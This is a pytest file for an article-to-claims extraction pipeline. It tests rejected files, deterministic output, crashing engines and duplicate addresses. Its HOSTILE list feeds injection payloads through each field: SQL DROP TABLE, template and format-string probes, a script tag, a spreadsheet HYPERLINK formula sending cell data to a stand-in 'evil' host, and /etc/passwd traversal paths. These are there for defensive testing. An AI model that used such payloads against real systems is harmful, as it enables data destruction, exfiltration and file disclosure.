"""The claims step: every input ends as a claims document or as a rejected row, the same each time."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from extractors import extract
from extractors.claims import SCHEMA_VERSION, Article, ClaimsDocument, ExtractorInfo, from_json
from extractors.engines import get_engine
from extractors.errors import PermanentError, RejectedArticle
from extractors.extract import extract_batch, extract_paths
from extractors.fetch import fetch_folder
from extractors.items import Rejected
from extractors.settings import Settings, load_settings
from extractors.text.language import warm_up

TEXT = "The president of Chile visited Spain in July 2023 and met the king in Madrid for talks about trade."


@pytest.fixture(autouse=True, scope="module")
def loaded() -> None:
    """What every worker would load for itself is loaded once: workers inherit it."""
    warm_up()
    get_engine().extract(Article("a", "a", None, None, "en", None, None, TEXT))


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return replace(load_settings(), data_dir=tmp_path / "data", max_file_bytes=100_000, workers=2)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A folder as it is found in practice: some articles, and every kind of bad file."""
    folder = tmp_path / "in"
    folder.mkdir()
    record = {"text": TEXT, "lang": "en", "date": "2023-07-15"}
    files: dict[str, bytes] = {
        "a.txt": TEXT.encode(),
        "b.html": f"<html><body><h1>Chile in Spain</h1><p>{TEXT}</p></body></html>".encode(),
        "binary.txt": b"\x89PNG\r\n\0\0" * 50,
        "c.jsonl": b"\n".join(
            [json.dumps(record).encode(), b'{"text": "cut off', json.dumps(record).encode(), b'{"no": 1}']
        ),
        "d.json": json.dumps([record, record | {"url": "urn:own"}]).encode(),
        "empty.txt": b"",
        "garbage.txt": "Tô Lâm thăm".encode() + b"\xff\xfe\xc3\x28" * 30,
        "large.txt": b"x" * 100_001,
        "dutch.txt": b"De minister-president heeft woensdag de Duitse bondskanselier ontvangen voor een bezoek.",
        "truncated.json": b'{"text": "The president of',
    }
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return folder


def summary(outcomes: list[ClaimsDocument | Rejected]) -> dict[str, str]:
    return {
        (o.source_uri if isinstance(o, Rejected) else o.article.source_uri).rsplit("/", 1)[-1]: (
            o.reason if isinstance(o, Rejected) else "claims"
        )
        for o in outcomes
    }


EXPECTED = {
    "a.txt": "claims",
    "b.html": "claims",
    "binary.txt": "binary",
    "c.jsonl#1": "claims",
    "c.jsonl#2": "invalid_json",
    "c.jsonl#3": "claims",
    "c.jsonl#4": "no_text",
    "d.json#1": "claims",
    "urn:own": "claims",
    "empty.txt": "empty",
    "garbage.txt": "undecodable",
    "large.txt": "too_large",
    "dutch.txt": "language_not_supported",
    "truncated.json": "invalid_json",
}


def test_everything_is_claims_or_rejected(settings: Settings, folder: Path) -> None:
    outcomes = list(extract_paths([folder], settings))
    assert summary(outcomes) == EXPECTED
    assert len(outcomes) == len(EXPECTED)


def test_the_order_is_the_same_each_time(settings: Settings, folder: Path) -> None:
    first = [o.to_json() for o in extract_paths([folder, folder / "a.txt"], settings)]
    assert [o.to_json() for o in extract_paths([folder, folder / "a.txt"], replace(settings, workers=1))] == first


def test_a_batch_gives_lines_that_the_loader_takes(settings: Settings, folder: Path) -> None:
    (batch,) = fetch_folder(settings, "r1", folder, "mine", uri_prefix="in")
    counts = extract_batch(settings, "r1", batch)
    run = settings.data_dir / "runs" / "r1"
    claims = (run / "claims" / batch.name).read_text("utf-8").splitlines()
    rejected = [json.loads(line) for line in (run / "rejected" / batch.name).read_text("utf-8").splitlines()]
    assert (counts.articles, counts.rejected) == (len(claims), len(rejected)) == (6, 7)
    for line in claims:
        assert from_json(line).article.text
        assert json.loads(line)["landing"].keys() >= {
            "uri",
            "path",
            "sha256",
            "metadata_sha256",
            "extractor_version",
            "source_name",
        }
    assert all((settings.data_dir / row["landing_path"]).is_file() for row in rejected)
    assert len({row["rejection_id"] for row in rejected}) == len(rejected)


def test_a_batch_again_gives_the_same_files(settings: Settings, folder: Path) -> None:
    (batch,) = fetch_folder(settings, "r1", folder, "mine")
    run = settings.data_dir / "runs" / "r1"
    contents = []
    for _ in range(2):
        extract_batch(settings, "r1", batch)
        contents.append([(run / kind / batch.name).read_bytes() for kind in ("claims", "rejected")])
    assert contents[0] == contents[1]


def test_a_landing_file_that_is_gone_is_a_row(settings: Settings, folder: Path) -> None:
    (batch,) = fetch_folder(settings, "r1", folder, "mine")
    for landed in settings.landing_dir.rglob("*.*"):
        landed.unlink()
    assert extract_batch(settings, "r1", batch).articles == 0


class Engine:
    """An engine that does what the text tells it to."""

    name, version = "obedient", "1"

    def extract(self, article: Article) -> ClaimsDocument:
        if "LOOP" in article.text:
            while True:
                pass
        if "DIE" in article.text:
            os._exit(9)
        if "RAISE" in article.text:
            raise KeyError("a defect of the engine")
        if "TURN DOWN" in article.text:
            raise RejectedArticle("extract", "language_not_supported", "not this one")
        return ClaimsDocument(SCHEMA_VERSION, ExtractorInfo(self.name, self.version), article)


def test_an_engine_that_fails_costs_the_article_only(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    for number, word in enumerate(["", "DIE", "", "RAISE", "TURN DOWN", "", "LOOP", ""]):
        (folder / f"{number}.txt").write_text(f"{TEXT} {word}")
    monkeypatch.setattr(extract, "get_engine", lambda name="rules": Engine())
    monkeypatch.setattr("extractors.workers.cpu_limit.__wrapped__.__defaults__", (0.5,))
    extract._engine.cache_clear()
    try:
        (batch,) = fetch_folder(settings, "r1", folder, "mine", uri_prefix="in")
        counts = extract_batch(settings, "r1", batch)
    finally:
        extract._engine.cache_clear()
    rows = [
        json.loads(line) for line in (settings.data_dir / "runs/r1/rejected/mine-001.jsonl").read_text().splitlines()
    ]
    assert counts.articles == 4
    assert {row["source_uri"]: (row["stage"], row["reason"]) for row in rows} == {
        "in/1.txt": ("extract", "crashed"),
        "in/3.txt": ("extract", "crashed"),
        "in/4.txt": ("extract", "language_not_supported"),
        "in/6.txt": ("extract", "timeout"),
    }
    # What may have been the machine's fault is not remembered as dealt with: the next run tries it again.
    assert {row["reason"]: "sha256" in row["landing"] for row in rows} == {
        "crashed": False,
        "timeout": False,
        "language_not_supported": True,
    }


def test_an_address_is_read_once(settings: Settings, tmp_path: Path) -> None:
    file = tmp_path / "a.jsonl"
    file.write_text("\n".join(json.dumps({"text": f"{TEXT} {n}", "url": "urn:same", "lang": "en"}) for n in range(3)))
    (first, *others) = extract_paths([file], settings)
    assert isinstance(first, ClaimsDocument)
    assert first.article.text.endswith("0")
    assert [(o.source_uri, o.reason) for o in others if isinstance(o, Rejected)] == [
        (f"{file.as_posix()}#2", "duplicate_uri"),
        (f"{file.as_posix()}#3", "duplicate_uri"),
    ]


def test_rubbish_under_the_ending_jsonl_is_given_up_on(settings: Settings, tmp_path: Path) -> None:
    (tmp_path / "log.jsonl").write_text("a line of a log\n" * 5000)
    outcomes = list(extract_paths([tmp_path / "log.jsonl"], settings))
    assert len(outcomes) == extract.BAD_RECORDS + 1
    last = outcomes[-1]
    assert isinstance(last, Rejected)
    assert "the rest is not read" in last.detail


def test_what_is_not_there_is_said_at_once(settings: Settings, tmp_path: Path) -> None:
    with pytest.raises(PermanentError, match="does not exist"):
        next(extract_paths([tmp_path / "nothing.txt"], settings))


def test_the_same_rejection_has_the_same_id() -> None:
    def row(uri: str, reason: str, detail: str) -> Any:
        return Rejected.of(RejectedArticle("text", reason, detail), uri).rejection_id

    assert row("a", "empty", "x") == row("a", "empty", "y")
    assert len({row("a", "empty", ""), row("b", "empty", ""), row("a", "binary", "")}) == 3


def test_plain_text_leaves_the_page_reader_alone(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text(TEXT)
    code = (
        "import sys; from pathlib import Path\n"
        "from extractors.extract import extract_paths; from extractors.settings import load_settings\n"
        "print(len(list(extract_paths([Path(sys.argv[1])], load_settings()))), 'trafilatura' in sys.modules)"
    )
    done = subprocess.run([sys.executable, "-c", code, tmp_path / "a.txt"], capture_output=True, text=True, check=True)
    assert done.stdout.split() == ["1", "False"]


HOSTILE = [
    "\x00",
    "\ud800",
    "\udfff\ud800",
    "\ufeffBOM",
    "\u202eRLO\u2066",
    "\u200b\u200c\u200d",
    "\ufdfa" * 500,
    "\r\n",
    "\x1b[2J\x1b[31mred",
    "\x7f\x80\x85\u2028\u2029",
    "'; DROP TABLE raw.articles; --",
    "{{ env_var('HOME') }}",
    "%s %n %(a)s {0.__class__}",
    "<script>alert(1)</script>",
    "<p>",
    '=HYPERLINK("http://evil/?"&A1)',
    "../../etc/passwd",
    "file:///etc/passwd",
    "a" * 300,
    "NaN",
    "9999-12-31",
    "1" * 400,
    "٣",
]


@pytest.mark.parametrize("field", ["text", "title", "url", "source", "date", "lang"])
def test_hostile_fields_end_as_claims_or_rows(settings: Settings, tmp_path: Path, field: str) -> None:
    record = {"text": TEXT, "lang": "en"}
    folder = tmp_path / "in"
    folder.mkdir()
    values = [record | {field: f"{TEXT} {h} {TEXT}" if field == "text" else h} for h in HOSTILE]
    (folder / "a.jsonl").write_text("\n".join(json.dumps(value) for value in values))
    (batch,) = fetch_folder(settings, "r1", folder, "mine")
    counts = extract_batch(settings, "r1", batch)
    assert counts.articles + counts.rejected == len(HOSTILE)
    assert counts.articles >= (1 if field == "lang" else len(HOSTILE))
    claims = (settings.data_dir / "runs" / "r1" / "claims" / batch.name).read_text("utf-8").splitlines()
    assert len(claims) == counts.articles
    for line in claims:
        from_json(line)


def test_names_that_are_not_utf8_and_links_to_nowhere_can_be_written_down(settings: Settings, tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    odd = os.fsdecode(b"\xff\x1b[31m\n")
    (folder / f"{odd}.txt").write_text(TEXT)
    (folder / f"{odd}.pdf").write_text(TEXT)
    (folder / f"{odd}link.txt").symlink_to(folder / odd)
    (folder / f"{odd}b.txt").write_text("")
    (folder / f"{odd}b.json").write_text("{}")
    (batch,) = fetch_folder(settings, "r1", folder, "mine", uri_prefix="in")
    assert extract_batch(settings, "r1", batch).articles == 1
    outcomes = list(extract_paths([folder], settings))
    assert sorted(o.reason for o in outcomes if isinstance(o, Rejected)) == ["empty", "unreadable", "unsupported_type"]
    for outcome in outcomes:
        outcome.to_json().encode("utf-8")
